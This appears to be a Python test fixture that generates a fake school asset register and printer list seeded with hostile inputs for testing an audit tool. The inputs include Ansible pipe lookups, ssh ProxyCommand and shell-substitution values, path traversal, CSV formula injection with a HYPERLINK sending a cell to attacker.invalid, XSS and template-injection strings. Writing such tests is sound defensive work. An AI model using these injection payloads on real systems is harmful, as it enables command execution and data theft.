"""Mothwick Grange: a supplier's register that attacks whoever reads it, and a printer list that contradicts it.

Every attack that could run anything would leave a file `/tmp/ictops-attack-executed-<n>`; tests look for those.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.example_audits.tables import separated

MARKER = "/tmp/ictops-attack-executed-"
"""Begins the path of the file that an attack makes, if anything ever executes it."""

_HEADER = (
    "Tag|Hostname|Device Type|Manufacturer|Model|Serial Number|MAC|IP Address|OS|Room|Location|Purchase Date|Remarks|"
    "ansible_connection|ansible_ssh_common_args|Admin password"
)


def _touch(number: int) -> str:
    return f"touch {MARKER}{number}"


def _pipe(number: int) -> str:
    return "{{ lookup('pipe', '" + _touch(number) + "') }}"


_PRINT_SERVER_LOCATION = f'Resources room {_pipe(1)} – shelf "B"'

_REGISTER = (
    f"MGS-001|mgs-print|Print server|Viglen|Genie|INV-M001|02:00:5e:0d:00:20|10.99.13.20|Debian 12|Resources room|"
    f"{_PRINT_SERVER_LOCATION}|03/09/2018||local|-o ProxyCommand={_touch(2)}|Mothwick#2018",
    f"MGS-002|mgs-room5|Classroom PC|Viglen|Genie|INV-M002|02:00:5e:0d:01:05|10.99.13.105|Debian 12|Room 5|Lower school|"
    f"03/09/2018|Sound {_pipe(3)}|ssh||Mothwick#2018",
    f"MGS-003|mgs-room6|Classroom PC|Viglen|Genie|INV-M003|02:00:5e:0d:01:06|-oProxyCommand={_touch(4)}|Debian 12|Room 6|"
    "Lower school|03/09/2018||||",
    f"MGS-004|pc$({_touch(5)})|Classroom PC|Viglen|Genie|INV-M004|02:00:5e:0d:01:07|DHCP|Windows 10 22H2|Room 7|"
    "Upper school|03/09/2018|`" + _touch(6) + "`|||",
    f"MGS-005|../../etc/cron.d/ictops|Server|HP|MicroServer Gen8|INV-M005|02:00:5e:0d:00:05|10.99.13.5|"
    f"Windows Server 2012 R2|../../../etc/passwd|Resources room|2014|{_pipe(7)}|||",
    f"MGS-006|=cmd|Laptop|Lenovo|L14|INV-M006|02:00:5e:0d:02:01|DHCP|Windows 11 23H2|Office|"
    f'=cmd¦\'/C {_touch(8)}\'!A0|11/01/2022|=HYPERLINK("http://attacker.invalid/?"&A1,"Open me")|||',
    "MGS-007|all|Laptop|Lenovo|L14|INV-M007|02:00:5e:0d:02:02|DHCP|Windows 11 23H2|Office|Upper school|11/01/2022||||",
    "MGS-008|NO|Laptop|Lenovo|L14|INV-M008|02:00:5e:0d:02:03|DHCP|Windows 11 23H2|Office|Upper school|11/01/2022||||",
    "MGS-009|pc[1:9]|Laptop|Lenovo|L14|INV-M009|02:00:5e:0d:02:04|127.0.0.1|Windows 10|Room 5|Lower school|11/01/2022||||",
    "MGS-010|!mgs-room5|Laptop|Lenovo|L14|INV-M010|02:00:5e:0d:02:05|10.99.13.300|Windows 10|Room 5|Lower school|"
    "32/13/2021||||",
    "MGS-011|@/etc/passwd|Laptop|Lenovo|L14|INV-M011|10:20:30:40:50:59|DHCP|Windows 10|Room 6|Lower school|1.10||||",
    "MGS-012|<script>alert('mothwick')</script>|Tablet|Apple|iPad 9|INV-M012||||Room 6|Lower school|2022|"
    "<img src=x onerror=alert(1)>|||",
    "MGS-013|mgs-\u202egnp.exe|Tablet|Apple|iPad 9|INV-M013||||Room 7|Lower\u200b school|2022||||",
    "MGS-014|mgs-\x1b]0;owned\x07\x1b[2Jtablet|Tablet|Apple|iPad 9|INV-M014||||Room 7|Lower school|2022||||",
    "00123456|{% for x in ().__class__.__base__.__subclasses__() %}|Switch|Cisco|SG350|1E5|02:00:5e:0d:00:02|10.99.13.2||"
    "Resources room|Upper school|2017|{{ ansible_password }}|||",
    f'MGS-016|mgs-ap1|Access point|Ruckus|R320|INV-M016|02:00:5e:0d:00:31|10.99.13.31||Hall|"; {_touch(9)} #|2019||||',
    "MGS-017|mgs-prn-01|Printer|HP|LaserJet M404|INV-M017||10.99.13.41||Office|Upper school|2019||||",
    "MGS-018|mgs-prn-02|Photocopier|Sharp|MX-3071|INV-M018||10.99.13.42||Resources room|Upper school|2020|"
    "password: Sharp1234|||",
    "MGS-019|mgs-prn-03|Printer|Epson|WF-C5790|INV-M019||10.99.13.43||Room 5|Lower school|2021||||",
)

_PRINTERS = (
    "Printer name,Asset no,Model,Serial no,IP,Room",
    "mgs-prn-01,MGS-017,LaserJet M404,INV-M017,10.99.13.44,Office",
    "mgs-prn-02,MGS-018,MX-3071,INV-M018,10.99.13.42,Staff room",
    "mgs-prn-03,,WF-C5790,INV-M999,10.99.13.43,Room 5",
    f'mgs-prn-04,,"{_pipe(10)}",INV-M020,10.99.13.20,Hall',
    "mgs-prn-02,,,,10.99.13.42,",
    ",,LaserJet 1020,,,Room 7",
)


def files() -> Iterator[tuple[str, bytes]]:
    """The audit of the special school."""
    register = [[cell.replace("¦", "|") for cell in line.split("|")] for line in (_HEADER, *_REGISTER)]
    yield "Mothwick asset register 2025-06-16.csv", separated(register, encoding="utf-8-sig")
    yield "Mothwick printers 2025-06-18.csv", "\r\n".join((*_PRINTERS, "")).encode()
